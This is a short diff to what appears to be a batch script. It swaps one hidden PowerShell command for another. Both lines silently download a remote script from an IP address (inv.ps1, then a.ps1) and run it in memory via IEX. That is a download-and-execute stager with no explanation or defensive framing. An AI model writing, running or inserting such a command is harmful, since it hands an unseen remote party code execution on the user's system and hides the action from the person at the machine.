@@ -1,2 +1,2 @@
-REM run 6072 v3
-powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/inv.ps1')"
+REM run 2573 v3
+powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/a.ps1')"
